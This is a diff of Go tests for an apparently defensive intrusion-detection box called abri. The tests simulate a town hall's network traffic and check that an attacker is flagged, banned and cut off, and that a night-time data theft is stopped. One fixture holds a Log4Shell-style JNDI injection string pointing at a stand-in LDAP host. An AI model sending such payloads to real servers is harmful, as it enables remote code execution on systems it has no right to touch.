@@ -10,6 +10,8 @@ import (
 	"time"
 
 	"abri.example/abri"
+	"abri.example/abri/testnet"
+	"abri.example/abri/testnet/live"
 )
 
 // "A simulated week of a town hall: at most one false attack, nobody stopped." Here it is four days, with a second Tuesday of
@@ -20,48 +22,76 @@ func TestAWeekAtTheTownHall(t *testing.T) {
 	if n, err := strconv.Atoi(os.Getenv("ABRI_WEEK")); err == nil {
 		days = n
 	}
-	town, err := newTown(monday)
+	box, _, err := past(days)
 	if err != nil {
 		t.Fatal(err)
 	}
-	town.pass(days)
 	var said strings.Builder
-	if !town.tell(&said, days, 0) {
+	if !box.tell(&said, days) {
 		t.Error(said.String())
 	}
 }
 
-// The same town, and somebody in it who attacks: he is seen, banned, and his conversation cut, so that a week without an
-// alarm says something.
-func TestWhoAttacksInTheWeekIsStopped(t *testing.T) {
-	town, err := newTown(monday)
-	if err != nil {
-		t.Fatal(err)
-	}
+// The hours of the same town in which its PCs start and all updates come (the whole day where ABRI_WEEK is set), and somebody
+// at their end who attacks: in memory and through a real gate alike he alone is told of, banned, and his conversation cut. So
+// a week without an alarm says something, and a link says the same.
+func TestWhoAttacksOnADayIsStopped(t *testing.T) {
 	crook := netip.MustParseAddr("45.155.205.9")
-	town.until(monday.Add(9 * time.Hour))
-	town.fetch(crook, pages, "www.mairie.example", "/?q=${jndi:ldap://203.0.113.66/a}", firefox, speaks, document, 900)
-	town.until(town.now.Add(time.Minute))
-	if all := town.told(); len(all) != 1 || all[0].Kind != abri.Exploit || all[0].Outside != crook {
-		t.Errorf("told: %+v", all)
+	first, last := 1440+8*60, 1440+10*60
+	if os.Getenv("ABRI_WEEK") != "" {
+		first, last = 1440, 2*1440
 	}
-	if len(town.bans) != 1 || !strings.Contains(town.bans[0], crook.String()) || len(town.blocks) != 1 {
-		t.Errorf("banned %q, cut %q", town.bans, town.blocks)
+	tuesday := func(town *town) {
+		town.pass(first, last)
+		town.fetch(crook, pages, "www.mairie.example", "/?q=${jndi:ldap://203.0.113.66/a}", firefox, speaks, document, 900)
+		town.until(town.now.Add(time.Minute))
 	}
-	var said strings.Builder
-	if town.tell(&said, 1, 0) {
-		t.Error("a week in which somebody was stopped is told as one without")
+	hold := func(t *testing.T, x *box) {
+		if all := x.told(); len(all) != 1 || all[0].Kind != abri.Exploit || all[0].Outside != crook {
+			t.Errorf("told: %+v", all)
+		}
+		if len(x.bans) != 1 || !strings.Contains(x.bans[0], crook.String()) || len(x.blocks) != 1 {
+			t.Errorf("banned %q, cut %q", x.bans, x.blocks)
+		}
+		var said strings.Builder
+		if x.tell(&said, 2) {
+			t.Error("a day on which somebody was stopped is told as one without")
+		}
 	}
+	t.Run("in memory", func(t *testing.T) {
+		x, err := newBox(monday, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tuesday(newTown(monday, x))
+		hold(t, x)
+	})
+	t.Run("through a gate", func(t *testing.T) {
+		if err := testnet.Possible(); err != nil {
+			t.Skip(err)
+		}
+		l, err := live.New(t)
+		if err != nil {
+			t.Fatal(err)
+		}
+		x, packets, err := cross(t.Context(), l, tuesday)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Logf("%d packets", packets)
+		hold(t, x)
+	})
 }
 
 // After the week in which the box learns: a film, a paper for the printing house and a desk that moves into the cloud are no
 // news; the first copy of everything to a new place is told once and goes on; and so are letters that move. As much at night
 // to where nobody keeps files is a theft, and stopped.
 func TestWhatIsBroughtAwayInTheSecondWeek(t *testing.T) {
-	town, err := newTown(monday)
+	box, err := newBox(monday, false)
 	if err != nil {
 		t.Fatal(err)
 	}
+	town := newTown(monday, box)
 	for town.minute = range 20 * 1440 {
 		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
 		town.copies()
@@ -73,21 +103,21 @@ func TestWhatIsBroughtAwayInTheSecondWeek(t *testing.T) {
 		}
 	}
 	var told []string
-	for _, a := range town.told() {
+	for _, a := range box.told() {
 		told = append(told, a.First.Format("Mon ")+string(a.Kind)+" to "+a.Outside.String())
 	}
 	if want := []string{"Fri exfiltration to " + copier.String(), "Sat exfiltration to " + newHost.String()}; !slices.Equal(told, want) {
 		t.Errorf("told %q, want %q", told, want)
 	}
-	if len(town.bans) > 0 || len(town.blocks) > 0 {
-		t.Errorf("banned %q, cut %q", town.bans, town.blocks)
+	if len(box.bans) > 0 || len(box.blocks) > 0 {
+		t.Errorf("banned %q, cut %q", box.bans, box.blocks)
 	}
 	for range 60 {
 		town.minute++
 		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
 		town.visit(cellar, far(9601), "files.nobody.example", 170_000_000, 40_000)
 	}
-	if len(town.bans) == 0 || len(town.blocks) == 0 {
+	if len(box.bans) == 0 || len(box.blocks) == 0 {
 		t.Error("a theft at night is not stopped")
 	}
 }
@@ -95,11 +125,14 @@ func TestWhatIsBroughtAwayInTheSecondWeek(t *testing.T) {
 // Each week is the same.
 func TestTheWeekIsDeterministic(t *testing.T) {
 	var all [2]*town
+	var boxes [2]*box
 	for i := range all {
-		town, err := newTown(monday)
+		box, err := newBox(monday, false)
 		if err != nil {
 			t.Fatal(err)
 		}
+		town := newTown(monday, box)
+		boxes[i] = box
 		for town.minute = range 200 {
 			town.drawn = 0
 			town.until(monday.Add(time.Duration(9*60+town.minute) * time.Minute))
@@ -109,7 +142,7 @@ func TestTheWeekIsDeterministic(t *testing.T) {
 		}
 		all[i] = town
 	}
-	if a, b := all[0], all[1]; a.packets == 0 || a.packets != b.packets || a.noise() != b.noise() || !a.now.Equal(b.now) {
-		t.Errorf("%d packets and %d lone knocks, then %d and %d", a.packets, a.noise(), b.packets, b.noise())
+	if a, b := all[0], all[1]; a.packets == 0 || a.packets != b.packets || boxes[0].noise(1) != boxes[1].noise(1) || !a.now.Equal(b.now) {
+		t.Errorf("%d packets and %d lone knocks, then %d and %d", a.packets, boxes[0].noise(1), b.packets, boxes[1].noise(1))
 	}
 }
